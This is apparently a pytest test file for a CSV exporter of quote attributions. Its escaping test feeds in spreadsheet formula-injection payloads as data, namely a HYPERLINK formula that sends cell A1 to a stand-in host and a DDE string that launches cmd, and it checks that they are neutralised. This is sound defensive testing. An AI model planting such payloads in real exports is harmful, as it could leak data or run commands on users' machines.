"""Who said what as CSV: a header, one line per attribution, and a refused path named."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from labeler.domain.errors import LabelerError
from labeler.domain.who_said_what import AttributionRow, LinkedClaim
from labeler.formats import who_said_what_csv


def test_rows_are_written_in_the_columns_order_with_empty_ids_blank(tmp_path: Path) -> None:
    claim = LinkedClaim(
        span_id=9, start=20, text="It costs 5 million", claim_type="quantity", checkworthy="yes"
    )
    rows = [
        AttributionRow(
            span_id=7,
            start=12,
            cue="said",
            source="the mayor 😀",
            content="it costs 5 million",
            claims=(claim,),
            entity_label="PERSON",
            entity_text="mayor",
            document_id=3,
            document_title="Budget",
            annotator="ana",
        ),
        AttributionRow(span_id=None, start=0, cue="", source="officials", content=""),
    ]
    path = tmp_path / "out.csv"
    assert who_said_what_csv.write(rows, path) == 2
    with path.open(encoding="utf-8", newline="") as f:
        header, first, second = list(csv.reader(f))
    assert header == list(who_said_what_csv.COLUMNS)
    assert dict(zip(header, first, strict=True)) == {
        "document_id": "3",
        "document_title": "Budget",
        "annotator": "ana",
        "span_id": "7",
        "start": "12",
        "source": "the mayor 😀",
        "cue": "said",
        "content": "it costs 5 million",
        "claim": "It costs 5 million",
        "claim_type": "quantity",
        "checkworthy": "yes",
        "verification": "",
        "entity_label": "PERSON",
        "entity_text": "mayor",
    }
    assert (second[0], second[3], second[5]) == ("", "", "officials")


def test_a_folder_that_does_not_exist_is_refused_with_the_path(tmp_path: Path) -> None:
    target = tmp_path / "missing" / "out.csv"
    with pytest.raises(LabelerError, match=f"cannot write {target}"):
        who_said_what_csv.write([], target)
    assert not target.parent.exists()


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r"], ids=["eq", "plus", "minus", "at", "tab", "cr"]
)
def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, start: str) -> None:
    formula = f'{start}HYPERLINK("http://example.invalid/?"&A1,"open")'
    row = AttributionRow(
        span_id=1,
        start=0,
        cue=f"{start}said",
        source=formula,
        content=f"{start}1+1",
        document_id=2,
        document_title=f"{start}cmd|' /C calc'!A0",
        annotator=f"{start}ana",
    )
    path = tmp_path / "out.csv"
    who_said_what_csv.write([row], path)
    with path.open(encoding="utf-8", newline="") as f:
        header, cells = list(csv.reader(f))
    written = dict(zip(header, cells, strict=True))
    for column, value in [
        ("source", formula),
        ("cue", f"{start}said"),
        ("content", f"{start}1+1"),
        ("document_title", f"{start}cmd|' /C calc'!A0"),
        ("annotator", f"{start}ana"),
    ]:
        assert written[column] == "'" + value, column
    # Numbers and ordinary text are written as they are.
    assert (written["document_id"], written["start"]) == ("2", "0")


def test_ordinary_text_is_written_unchanged(tmp_path: Path) -> None:
    row = AttributionRow(span_id=1, start=0, cue="said", source="O'Brien = mayor", content="")
    path = tmp_path / "out.csv"
    who_said_what_csv.write([row], path)
    with path.open(encoding="utf-8", newline="") as f:
        header, cells = list(csv.reader(f))
    assert dict(zip(header, cells, strict=True))["source"] == "O'Brien = mayor"
